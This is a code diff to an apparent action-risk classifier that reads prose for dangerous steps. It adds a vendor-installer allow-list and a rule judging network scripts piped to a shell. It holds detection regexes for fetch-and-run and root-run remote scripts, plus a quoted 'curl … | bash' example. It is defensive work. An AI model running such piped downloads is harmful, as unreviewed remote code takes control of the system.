@@ -21,8 +21,8 @@
 // once, and at most MAX_VERBS verbs and MAX_ACTIONS actions are read; a hint not read whole for
 // these caps is caution (readProseWhole says so, and judge.ts counts it unreadable).
 import type { Action } from "./model.js";
-import { untrustedOrigin, classifyPath, isExternalHost } from "./paths.js";
-import { type ArgumentFacts, AUTH_OFF, readNamed, verbClassOf, type VerbClass } from "./tool-call.js";
+import { untrustedOrigin, classifyPath, hostOf, isExternalHost, ownNetworkHost, vendorInstaller } from "./paths.js";
+import { type ArgumentFacts, AUTH_OFF, ONE_COMPUTER, readNamed, verbClassOf, type VerbClass } from "./tool-call.js";
 import { RULES_OPEN } from "./source-file.js";
 import { REMOTE_ACCESS_TOOL } from "../rules/actions/fragments.js";
 import { credentialLure, verificationWaived } from "./published-text.js";
@@ -143,6 +143,9 @@ const PIPED_TO_SHELL = /\b(?:pip(?:e|es|ed|ing)|curl\w*|wget\w*)\b(?:[^.;]|\.(?=
 /** Code fetched and run in one breath: "pulls and runs a script from …", "downloads and executes …". */
 /** A script run straight from another host with root rights: "run the install.sh from cdn.example.net with sudo". */
 const REMOTE_SCRIPT_AS_ROOT = /\b(?:run|runs|running|execut\w*|install\w*)\b[^.;]{0,40}?\b[\w.-]+\.(?:sh|bash|ps1|py|pl|rb)\b[^.;]{0,20}?\bfrom (?:https?:\/\/)?(?!localhost\b|127\.)[a-z0-9-]+(?:\.[a-z0-9-]+)+\b[^.;]{0,60}?\b(?:with sudo|as root|via sudo|using sudo|sudo)\b/i;
+/** A vendor's own installer named by the tool it installs ("the official rustup installer", "nvm's install script"). */
+const VENDOR_INSTALLER_NAMED = /\b(?:rustup|nvm|homebrew|oh[- ]my[- ]zsh|pnpm|bun|deno|poetry|uv|sdkman|volta|k3s|helm|tailscale|ollama|nix|ghcup|pyenv|rbenv|asdf|starship|foundry(?:up)?)(?:'s)?\b(?:[^.]{0,40}\b(?:install(?:er| script)?|setup script|one-liner|bootstrap))|\bdocker'?s (?:convenience|install) script\b|\b(?:official|vendor'?s|documented) (?:install(?:er| script)|one-liner)\b/i;
+
 const FETCH_AND_RUN = /\b(?:pull|pulls|pulling|download|downloads|downloading|fetch|fetches|fetching|grab|grabs|grabbing)\s+(?:and|then|&)\s+(?:run|runs|running|execute|executes|executing)\b[^.;]{0,80}?\bfrom\b|\b(?:run|runs|running|execute|executes|executing)\s+(?:whatever|anything|what)\s+(?:it|the server|the endpoint|that url)?\s*(?:returns|sends|serves|gets back|says)\b/i;
 /** Code fetched again and again (a helper script that "re-downloads every time the user logs in", an agent pulled at boot). */
 const RECURRING_FETCH = /\b(?:re-?)?(?:download|fetch|pull|curl|wget)(?:s|es|ed|ing)?\b[^.;]{0,80}?(?:\b(?:every|each) (?:time|login|logon|boot|reboot|start|startup|hour|minute|night|day|\d+ ?(?:s|sec|seconds|m|min|mins|minutes|h|hours))\b|\b(?:at|on) (?:every |each )?(?:login|logon|boot|startup|reboot)\b)/i;
@@ -2156,6 +2159,15 @@ function readAction(sentence: string, clause: string, verb: string, verbClass: V
       out.push({ id: "prose.pipe-to-shell", action: { capability: "grant-access", target: { name: label, external: true }, reversibility: "irreversible", scope: "account" }, reason: `${label} says it runs code ${plainAsRoot && host === undefined ? "fetched over plain HTTP straight in a root shell: whoever is on the path runs code as root" : "from a paste site or a look-alike host straight in a shell, unread: whoever posted it runs code here"} (T1105)` });
       return out;
     }
+    // From anywhere but a vendor's own installer (named by its URL or by the tool it installs) or the
+    // organisation's own network: code of whoever controls that host ran here, unread, as the shell
+    // reading judges `curl https://cdn.example.net/x.sh | bash`.
+    const urls = [...sentence.matchAll(/\bhttps?:\/\/[^\s"'`)<>]+/gi)].map((m) => m[0]);
+    const vouched = urls.some((u) => vendorInstaller(u) || ownNetworkHost(hostOf(u) ?? "")) || (urls.length === 0 && VENDOR_INSTALLER_NAMED.test(sentence));
+    if (!vouched) {
+      out.push({ id: "prose.pipe-to-shell", action: { capability: "grant-access", target: { name: label, external: true }, reversibility: "irreversible", scope: "account" }, reason: `${label} says it runs code fetched from the network straight in a ${asRoot ? "root " : ""}shell, unread, from no vendor's own installer: whoever controls where it comes from chose what runs (T1105)` });
+      return out;
+    }
     out.push({ id: "prose.pipe-to-shell", action: asRoot ? { capability: "escalate", target: { name: label, external: true }, reversibility: "recoverable", scope: "system" } : { capability: "execute", target: { name: label, external: true }, reversibility: "recoverable", scope: "account" }, reason: `${label} says it runs code fetched from the network straight in a ${asRoot ? "root " : ""}shell, unread (T1105)` });
     return out;
   }
@@ -2247,7 +2259,7 @@ function readAction(sentence: string, clause: string, verb: string, verbClass: V
   // that would have reached them goes unanswered. Read as the paging it weakens.
   if ((verbClass === "delete" || verbClass === "trash" || verbClass === "revoke") && PAGING.test(sentence)) moneyObject.push("oncall");
   // (An admin place is not a role: "make the admin panel routes require MFA", "the admin console's settings".)
-  const granted = { ...facts, adminGrant: ADMIN.test(phrase.replace(ADMIN_PLACE, " ")) || (verbClass === "grant" && /\b(?:group|team|role)\b/.test(phrase) && /[\w-]+-admins?\b|\badmins? (?:group|team|role)\b/i.test(sentence)) || /\bas (an? )?(admin|administrator|owner|superuser|super ?admin(istrator)?)\b/i.test(sentence), public: isPublic, recipients: sends ? recipients : facts.recipients };
+  const granted = { ...facts, adminGrant: ADMIN.test(phrase.replace(ADMIN_PLACE, " ")) || (verbClass === "grant" && /\b(?:group|team|role)\b/.test(phrase) && /[\w-]+-admins?\b|\badmins? (?:group|team|role)\b/i.test(sentence)) || /\bas (an? )?(admin|administrator|owner|superuser|super ?admin(istrator)?)\b/i.test(sentence), public: isPublic, recipients: sends ? recipients : facts.recipients, oneComputer: ONE_COMPUTER.test(sentence) };
   // Deleting under a path: the path's class says how much it reaches (/var/lib/postgresql/data).
   const systemPath = paths.find((p) => { const c = classifyPath(p); return c === "system" || c === "device" || c === "credentials"; });
   if (verbClass === "delete" && systemPath !== undefined) {
